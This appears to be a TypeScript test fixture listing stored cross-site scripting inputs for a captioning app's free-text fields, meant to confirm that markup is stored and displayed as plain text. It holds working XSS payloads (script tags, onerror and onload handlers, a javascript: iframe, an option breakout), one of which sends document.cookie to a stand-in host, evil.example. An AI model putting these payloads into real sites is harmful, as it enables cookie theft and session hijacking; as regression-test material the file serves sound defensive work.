// Markup typed into every free-text field people see: it must be stored and returned as the exact
// text, and render as text, never as a live element.
import { ADVISORY_CLASSES, type BadInputCase } from './bad-input-case';

export type XssField =
  'caption' | 'rejectComment' | 'captionInstructions' | 'projectName' | 'teamName' | 'memberName';

export interface XssCase extends BadInputCase {
  field: XssField;
  payload: string;
}

const xss = ADVISORY_CLASSES.storedXss;

export const xssCases: XssCase[] = [
  {
    title: 'Caption holding a <script> element',
    advisoryClass: xss,
    field: 'caption',
    payload: '<script>fetch("https://evil.example/?c="+document.cookie)</script> a dog',
  },
  {
    title: 'Reject comment holding an <img onerror> element',
    advisoryClass: xss,
    field: 'rejectComment',
    payload: 'Fix this <img src=x onerror="alert(document.cookie)">',
  },
  {
    title: 'Caption instructions holding <script> and a javascript: iframe',
    advisoryClass: xss,
    field: 'captionInstructions',
    payload: 'Describe it.<script>alert(1)</script><iframe src="javascript:alert(2)"></iframe>',
  },
  {
    title: 'Project name holding an <svg onload> element',
    advisoryClass: xss,
    field: 'projectName',
    payload: '<svg onload=alert(1)>Street</svg>',
  },
  {
    title: 'Team name holding a </option><script> breakout',
    advisoryClass: xss,
    field: 'teamName',
    payload: '</option><script>alert("team")</script>',
  },
  {
    title: 'Member name holding an <img onerror> element',
    advisoryClass: xss,
    field: 'memberName',
    payload: '<img src=x onerror=alert("member")>',
  },
];
